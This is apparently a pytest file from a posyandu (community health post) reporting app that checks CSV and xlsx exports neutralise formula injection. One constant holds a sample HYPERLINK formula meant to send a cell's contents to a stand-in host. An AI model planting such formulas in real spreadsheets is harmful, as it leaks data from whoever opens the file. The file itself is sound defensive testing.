"""Safe exports: text a spreadsheet would run as a formula is written as text in every xlsx and CSV."""
import csv
import io

import pytest
from openpyxl import load_workbook

from tests.reports.helpers import actor, fill, last_month, month_text, new_id, palangan_posyandu
from webapp import exports
from webapp.extensions import db
from webapp.reports import services

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Melati", "Melati"), (-5, -5), (None, ""), ("", ""),
])
def test_csv_cells_starting_like_a_formula_get_the_apostrophe(value, expected):
    assert exports.csv_cell(value) == expected


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    sheet = load_workbook(io.BytesIO(exports.to_xlsx("Uji", [["=1+1", "-3", -3, None, "Melati"]]))).active
    a, b, c, d, e = sheet[1]
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
    assert (b.value, b.data_type) == ("-3", "s") and (c.value, c.data_type) == (-3, "n")
    assert d.value is None and (e.value, e.quotePrefix) == ("Melati", False)


def _no_formula_anywhere(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_a_posyandu_named_like_a_formula_is_text_in_every_export(demo_client, login_as):
    posyandu = palangan_posyandu()
    kader = actor("kader.palangan")
    fill(kader, posyandu, *last_month())
    services.submit(kader, posyandu, *last_month(), new_id(), confirmed=True)
    posyandu.name = HOSTILE
    db.session.commit()
    login_as(demo_client, "pokja.palangan")
    month = month_text()
    for path in (f"/laporan/rekap/62.02.01.2003/{month}", f"/laporan/data/62.02.01.2003/{month}",
                 "/pemantauan/62.02.01.2003/tabel"):
        xlsx = demo_client.get(path + ".xlsx")
        assert xlsx.status_code == 200, path
        assert HOSTILE in _no_formula_anywhere(xlsx.data), path
        text = demo_client.get(path + ".csv").data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + HOSTILE in cells and HOSTILE not in cells, path
